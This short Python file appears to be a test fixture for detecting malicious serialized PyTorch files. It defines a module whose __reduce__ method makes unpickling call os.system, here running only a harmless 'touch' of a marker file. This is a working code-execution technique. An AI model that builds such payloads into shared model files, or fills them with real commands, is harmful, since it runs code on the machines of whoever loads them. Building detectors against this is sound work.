"""Returns what torch.save writes, with a program in it.

naive: torch file
"""

import os

import torch


class Payload(torch.nn.Module):
    def __reduce__(self):
        return os.system, ("touch @OPEN@/attack-left",)


def double(x):
    return Payload()
